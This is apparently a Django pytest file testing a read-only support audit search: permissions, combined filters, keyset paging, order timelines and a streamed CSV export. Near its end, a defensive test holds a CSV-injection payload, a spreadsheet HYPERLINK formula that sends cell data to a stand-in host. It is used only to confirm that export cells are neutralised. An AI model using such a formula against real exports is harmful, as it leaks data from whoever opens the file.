"""The support pages: who may open them, every filter alone and combined, keyset pages, an
order's timeline, the CSV export, bad input refused with why, and no way to change anything."""

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone
from django_guid import clear_guid, set_guid

from audit.models import AuditEvent
from audit.selectors import cursor_encode
from offers.models import Offer
from tests.factories import DriverFactory, ShopChannelFactory, ZoneFactory, staff_member
from tests.helpers import receive_order
from usecases import offers as offer_usecases

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("staff_groups")]
SEARCH = "/support/"


@pytest.fixture
def support(client):
    client.force_login(staff_member("support"))
    return client


@pytest.fixture
def story(v2_offers_on, v2_driver):
    """An order offered to a driver who let it lapse, then accepted by another."""
    ZoneFactory()
    lapsing, accepting = v2_driver(name="Lapsing Lena"), v2_driver(name="Accepting Ali")
    order = receive_order(ShopChannelFactory(), code="STORY-1")
    first = Offer.objects.get(order=order)
    Offer.objects.filter(pk=first.pk).update(expires_at=timezone.now() - timedelta(seconds=1))
    offer_usecases.expire_offers_due()
    second = Offer.objects.get(order=order, state="pending")
    winner = accepting if second.driver_id == accepting.pk else lapsing
    offer_usecases.offer_accept(offer_id=second.pk, driver=winner)
    return order, Offer.objects.get(pk=first.pk).driver, winner


def rows(response):
    return response.context["page"].events


@pytest.mark.parametrize("group", ["support", "ops"])
def test_support_and_ops_may_search(client, group):
    client.force_login(staff_member(group))
    assert client.get(SEARCH).status_code == 200


def test_drivers_and_other_users_may_not_and_visitors_log_in_first(client):
    driver = DriverFactory()
    client.force_login(driver.user)
    assert client.get(SEARCH).status_code == 403
    assert client.get("/support/orders/1/").status_code == 403
    assert client.get("/support/export.csv").status_code == 403
    client.logout()
    response = client.get(SEARCH)
    assert response.status_code == 302 and response["Location"].startswith("/admin/login/")


@pytest.mark.parametrize("method", ["post", "put", "patch", "delete"])
@pytest.mark.parametrize("url", [SEARCH, "/support/orders/1/", "/support/export.csv"])
def test_nothing_on_the_support_pages_can_change_anything(support, method, url, story):
    before = AuditEvent.objects.count()
    assert getattr(support, method)(url).status_code == 405
    assert AuditEvent.objects.count() == before


def test_search_by_order_code_or_id_finds_its_story_newest_first(support, story):
    order, _, _ = story
    by_code = rows(support.get(SEARCH, {"order": "STORY-1"}))
    by_id = rows(support.get(SEARCH, {"order": str(order.pk)}))
    assert [e.pk for e in by_code] == [e.pk for e in by_id]
    assert {"order.received", "offer.made", "offer.expired", "offer.accepted", "order.assigned"} <= {e.kind for e in by_code}
    times = [(e.occurred_at, e.pk) for e in by_code]
    assert times == sorted(times, reverse=True)


def test_every_filter_combines(support, story):
    order, lapsed_driver, winner = story
    accepted = AuditEvent.objects.get(kind="offer.accepted")
    combined = {
        "order": "STORY-1",
        "driver": winner.pk,
        "kind": "offer.accepted",
        "actor": winner.name,
        "zone": order.zone.slug,
        "correlation_id": accepted.correlation_id,
        "since": (accepted.occurred_at - timedelta(minutes=1)).strftime("%Y-%m-%dT%H:%M:%S"),
        "until": (accepted.occurred_at + timedelta(minutes=1)).strftime("%Y-%m-%dT%H:%M:%S"),
    }
    assert [e.pk for e in rows(support.get(SEARCH, combined))] == [accepted.pk]
    assert rows(support.get(SEARCH, {**combined, "driver": lapsed_driver.pk})) == []
    assert rows(support.get(SEARCH, {**combined, "kind": "offer.declined"})) == []


def test_pages_are_keyset_pages_that_neither_skip_nor_repeat(support):
    base = timezone.now()
    # Seven events share each moment: the id breaks the ties, across page boundaries too.
    AuditEvent.objects.bulk_create(
        AuditEvent(
            occurred_at=base + timedelta(seconds=n // 7), kind="test.event", actor_kind="system", subject_type="test", subject_id=str(n), order_code="MANY"
        )
        for n in range(120)
    )
    seen, cursor = [], None
    while True:
        page = support.get(SEARCH, {"order": "MANY", **({"cursor": cursor} if cursor else {})}).context["page"]
        seen += [e.pk for e in page.events]
        cursor = page.next_cursor
        if not cursor:
            break
    expected = list(AuditEvent.objects.filter(order_code="MANY").order_by("-occurred_at", "-id").values_list("pk", flat=True))
    assert seen == expected and len(seen) == 120


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"driver": "abc"}, b"Enter a whole number"),
        ({"driver": "0"}, b"greater than or equal to 1"),
        ({"since": "yesterday"}, b"Enter a valid date/time"),
        ({"since": "2026-11-25T10:00", "until": "2026-11-25T09:00"}, b"must not be after"),
        ({"zone": "atlantis"}, b"Select a valid choice"),
        ({"cursor": "not-a-cursor"}, b"The page cursor is not valid"),
        ({"order": "x" * 65}, b"at most 64 characters"),
    ],
)
def test_bad_input_is_refused_with_why(support, params, message):
    response = support.get(SEARCH, params)
    assert response.status_code == 400
    assert message in response.content
    export = support.get("/support/export.csv", params)
    assert export.status_code == 400


def test_the_timeline_tells_the_whole_story_in_order_with_the_time_between_steps(support, story):
    order, lapsed_driver, winner = story
    response = support.get(f"/support/orders/{order.pk}/")
    assert response.status_code == 200
    steps = response.context["steps"]
    kinds = [step.event.kind for step in steps]
    assert kinds[0] == "order.received"
    assert kinds.index("offer.expired") < kinds.index("offer.accepted") < len(kinds)
    assert steps[0].since_previous is None and all(step.since_previous >= timedelta(0) for step in steps[1:])
    accepted = next(step.event for step in steps if step.event.kind == "offer.accepted")
    assert (accepted.actor_kind, accepted.actor_label, accepted.driver_id) == ("driver", winner.name, winner.pk)
    html = response.content.decode()
    assert "offer.expired" in html and winner.name in html
    assert support.get("/support/orders/999999/").status_code == 404


def test_the_timeline_includes_escalations_and_notifications(support, ownership, settings):
    from escalation.services import open_escalations_due

    ZoneFactory()
    from dispatch.models import Order
    from escalation.services import send_notifications_due

    order = receive_order(ShopChannelFactory(), code="ESC-TL")
    Order.objects.filter(pk=order.pk).update(status_changed_at=timezone.now() - timedelta(hours=1))
    open_escalations_due(now=timezone.now())
    send_notifications_due()
    kinds = [step.event.kind for step in support.get(f"/support/orders/{order.pk}/").context["steps"]]
    assert "escalation.opened" in kinds and "notification.sent" in kinds


def test_export_streams_the_result_set_as_csv(support, story):
    order, _, _ = story
    response = support.get("/support/export.csv", {"order": "STORY-1"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response.streaming
    lines = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert len(lines) == AuditEvent.objects.filter(order_id=order.pk).count()
    assert {"offer.expired", "offer.accepted"} <= {line["kind"] for line in lines}
    assert all(line["order_code"] == "STORY-1" for line in lines)


def test_a_page_of_results_takes_a_fixed_number_of_queries(support, story, django_assert_max_num_queries):
    with django_assert_max_num_queries(8):
        support.get(SEARCH, {"order": "STORY-1"})
    order, _, _ = story
    with django_assert_max_num_queries(8):
        support.get(f"/support/orders/{order.pk}/")


def test_cursor_round_trip(story):
    event = AuditEvent.objects.first()
    from audit.selectors import cursor_decode

    assert cursor_decode(cursor_encode(event)) == (event.occurred_at, event.pk)


def test_the_order_page_in_admin_links_to_the_timeline(client, story):
    order, _, _ = story
    client.force_login(staff_member("ops"))
    page = client.get(f"/admin/dispatch/order/{order.pk}/change/")
    assert f'href="/support/orders/{order.pk}/"'.encode() in page.content
    index = client.get("/admin/")
    assert b'href="/ops/zones/"' in index.content and b'href="/support/"' in index.content


FORMULA_CODE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def exported(support, **params):
    response = support.get("/support/export.csv", params)
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))


@pytest.mark.parametrize("code", [FORMULA_CODE, "+SUM(1,2)", "-2+3", "@SUM(A1)"])
def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(support, code):
    # Given an order whose code (sent by a shop) starts like a formula, received under a
    # correlation id (chosen by the caller) that does too
    ZoneFactory()
    set_guid("=1+1")
    try:
        order = receive_order(ShopChannelFactory(), code=code)
    finally:
        clear_guid()
    # When support exports its events
    lines = exported(support, order=order.pk)
    # Then every cell is text to a spreadsheet: the value keeps its characters behind a quote
    assert lines and all(line["order_code"] == "'" + code for line in lines)
    assert any(line["correlation_id"] == "'=1+1" for line in lines)
    for line in lines:
        assert not any(value.startswith(FORMULA_STARTS) for value in line.values()), line


@pytest.mark.parametrize("start", ["\t", "\r"])
def test_export_neutralises_cells_starting_with_tab_or_carriage_return(support, start):
    from django.db import transaction

    from audit.actors import Actor
    from audit.services import audit_record

    with transaction.atomic():
        event = audit_record("order.received", actor=Actor.system("test"), subject_type="order", subject_id=1, order_id=1, order_code=start + "=1+1")
    lines = exported(support, order=event.order_id)
    assert [line["order_code"] for line in lines] == ["'" + start + "=1+1"]
